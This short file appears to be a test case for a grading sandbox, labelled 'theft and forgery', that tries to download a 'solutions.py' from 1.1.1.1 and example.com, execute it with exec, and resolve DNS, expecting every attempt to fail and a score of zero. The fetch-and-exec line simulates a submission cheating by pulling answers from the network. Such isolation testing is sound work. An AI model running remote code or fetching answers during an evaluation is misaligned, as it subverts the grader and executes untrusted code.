# family: 5 theft and forgery
# base: release
# cell: affine
# wrong-affine: yes
# expect-score: 0
# expect-status: ok
# Fetch a solution over the network (HTTP, then DNS); both must fail fast.
import socket
import urllib.request

for url in ("http://1.1.1.1/solutions.py", "http://example.com/solutions.py"):
    try:
        exec(urllib.request.urlopen(url, timeout=2).read().decode(), globals())
        raise RuntimeError(f"LEAK: fetched {url}")
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    raise RuntimeError("LEAK: DNS answered")
except OSError:
    pass
